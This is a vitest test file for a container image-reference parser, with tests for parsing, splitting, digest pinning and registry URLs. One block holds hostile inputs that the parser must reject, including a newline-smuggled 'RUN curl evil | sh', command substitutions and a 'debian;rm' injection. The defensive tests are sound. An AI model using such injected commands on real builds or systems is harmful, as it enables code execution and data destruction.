import { describe, expect, test } from "vitest";
import { ImageReferenceError } from "./errors.js";
import { parseImageReference, pinnedReference, splitImageReference, type ImageReference, type ReferenceParts } from "./reference.js";
import { registryBaseUrl } from "./registry-url.js";

const sha256 = `sha256:${"a".repeat(64)}`;

describe("parseImageReference", () => {
  test.each<[string, ImageReference]>([
    ["debian", { registry: "hub", repository: "library/debian" }],
    ["library/debian", { registry: "hub", repository: "library/debian" }],
    ["debian:bookworm", { registry: "hub", repository: "library/debian", tag: "bookworm" }],
    ["library/debian:12", { registry: "hub", repository: "library/debian", tag: "12" }],
    ["acme/tool:1.0", { registry: "hub", repository: "acme/tool", tag: "1.0" }],
    ["acme/team/tool", { registry: "hub", repository: "acme/team/tool" }],
    [`debian@${sha256}`, { registry: "hub", repository: "library/debian", digest: sha256 }],
    [`debian:bookworm@${sha256}`, { registry: "hub", repository: "library/debian", tag: "bookworm", digest: sha256 }],
    ["localhost/x", { registry: "localhost", repository: "x" }],
    ["localhost:5000/x", { registry: "localhost:5000", repository: "x" }],
    ["localhost:5000/x:1", { registry: "localhost:5000", repository: "x", tag: "1" }],
    ["localhost:5000", { registry: "hub", repository: "library/localhost", tag: "5000" }],
    ["127.0.0.1:5000/library/debian:bookworm", { registry: "127.0.0.1:5000", repository: "library/debian", tag: "bookworm" }],
    [`ghcr.io/a/b:1@${sha256}`, { registry: "ghcr.io", repository: "a/b", tag: "1", digest: sha256 }],
    ["ghcr.io/a/b/c", { registry: "ghcr.io", repository: "a/b/c" }],
    ["[::1]:5000/x", { registry: "[::1]:5000", repository: "x" }],
    ["MyRegistry/x", { registry: "MyRegistry", repository: "x" }],
    ["ghcr.io", { registry: "hub", repository: "library/ghcr.io" }],
    ["a__b/c-d--e.f_g:V1.0-rc_1", { registry: "hub", repository: "a__b/c-d--e.f_g", tag: "V1.0-rc_1" }],
    [`x@sha512:${"b".repeat(128)}`, { registry: "hub", repository: "library/x", digest: `sha512:${"b".repeat(128)}` }],
  ])("%s", (reference, expected) => {
    expect(parseImageReference(reference)).toEqual(expected);
  });

  test.each<[string, string]>([
    ["", "is empty"],
    ["Debian:12", 'path component "Debian" must be lower-case'],
    ["debian:", 'tag "" must be'],
    [":12", "empty path component"],
    ["debian:-rc", 'tag "-rc" must be'],
    [`debian:${"t".repeat(129)}`, "must be 1 to 128"],
    ["debian@sha256:abc", 'digest "sha256:abc" is not sha256:<64 lower-case hex>'],
    [`debian@sha256:${"A".repeat(64)}`, "is not sha256:<64 lower-case hex>"],
    [`debian@md5:${"a".repeat(32)}`, "is not sha256"],
    [`a@${sha256}@${sha256}`, 'more than one "@"'],
    ["a//b", "empty path component"],
    ["/debian", "empty path component"],
    ["debian/", "empty path component"],
    ["a_-b", 'path component "a_-b"'],
    ["bad_host.io:x/y", 'registry "bad_host.io:x" is not host[:port]'],
    ["-bad.io/y", 'registry "-bad.io" is not host[:port]'],
    ["${BASE_IMAGE}", "uses a build argument"],
    ["debian:${VERSION}", "uses a build argument"],
    [`${"a".repeat(256)}`, "longer than 255"],
  ])("%j is rejected: %s", (reference, why) => {
    expect(() => parseImageReference(reference)).toThrow(`image reference "${reference}": `);
    expect(() => parseImageReference(reference)).toThrow(
      expect.objectContaining({
        code: "KILN_IMAGE_REFERENCE",
        message: expect.stringContaining(why),
        hint: expect.stringContaining("debian:bookworm"),
      }),
    );
  });
});

describe("hostile references are refused, never half-read", () => {
  test.each([
    ["a newline and an instruction", "debian\nRUN curl evil | sh"],
    ["a carriage return", "debian:12\r"],
    ["a NUL", "debian\u0000:12"],
    ["a space", "debian 12"],
    ["a command substitution", "debian:$(id)"],
    ["backquotes", "debian:`id`"],
    ["a semicolon", "debian;rm"],
    ["a scheme", "https://ghcr.io/a/b"],
    ["a URL query", "ghcr.io/a/b?x=1"],
    ["a path traversal", "ghcr.io/../b"],
    ["a tab in the tag", "debian:\t12"],
    ["a flag", "--platform=linux/amd64"],
    ["unicode look-alikes", "dеbian:12"],
    ["a digest with a newline", `debian@${sha256}\n`],
    ["an IPv6 host without brackets", "::1:5000/x"],
    ["a port of letters", "ghcr.io:https/x"],
    ["a very long name", `ghcr.io/${"a/".repeat(200)}x`],
  ])("%s", (_case, reference) => {
    expect(() => parseImageReference(reference)).toThrow(ImageReferenceError);
  });

  test("a port of six digits is not a registry", () => {
    expect(() => parseImageReference("ghcr.io:123456/x")).toThrow('registry "ghcr.io:123456" is not host[:port]');
  });
});

describe("splitImageReference: the grammar's cuts, nothing checked", () => {
  test.each<[string, ReferenceParts]>([
    ["debian", { name: "debian", path: "debian" }],
    ["debian:bookworm", { name: "debian", path: "debian", tag: "bookworm" }],
    ["library/debian", { name: "library/debian", path: "library/debian" }],
    ["localhost:5000/x:1", { name: "localhost:5000/x", domain: "localhost:5000", path: "x", tag: "1" }],
    ["localhost:5000", { name: "localhost", path: "localhost", tag: "5000" }],
    [`ghcr.io/a/b:1@${sha256}`, { name: "ghcr.io/a/b", domain: "ghcr.io", path: "a/b", tag: "1", digest: sha256 }],
    ["[::1]:5000/x", { name: "[::1]:5000/x", domain: "[::1]:5000", path: "x" }],
    ["debian:${VERSION}", { name: "debian", path: "debian", tag: "${VERSION}" }],
    // Upper-case letters make the first component a domain, by the grammar's rule.
    ["${REGISTRY}/app", { name: "${REGISTRY}/app", domain: "${REGISTRY}", path: "app" }],
    ["a@b@c", { name: "a", path: "a", digest: "b@c" }],
    ["", { name: "", path: "" }],
  ])("%j", (reference, parts) => {
    expect(splitImageReference(reference)).toEqual(parts);
  });
});

describe("pinnedReference", () => {
  const digest = `sha256:${"c".repeat(64)}`;
  test.each([
    ["debian:bookworm", `debian:bookworm@${digest}`],
    ["debian", `debian@${digest}`],
    ["127.0.0.1:5000/kiln/debian-base:1.2", `127.0.0.1:5000/kiln/debian-base:1.2@${digest}`],
    [`debian:bookworm@${sha256}`, `debian:bookworm@${digest}`],
  ])("%s", (reference, pinned) => {
    expect(pinnedReference(reference, digest)).toBe(pinned);
    expect(parseImageReference(pinned).digest).toBe(digest);
  });
});

describe("registryBaseUrl", () => {
  test.each([
    ["127.0.0.1:5000", "http://127.0.0.1:5000"],
    ["localhost:5000", "http://localhost:5000"],
    ["localhost", "http://localhost"],
    ["[::1]:5000", "http://[::1]:5000"],
    ["ghcr.io", "https://ghcr.io"],
    ["127.0.0.1.example:5000", "https://127.0.0.1.example:5000"],
    ["localhost.example", "https://localhost.example"],
  ])("%s", (host, url) => {
    expect(registryBaseUrl(host)).toBe(url);
  });
});
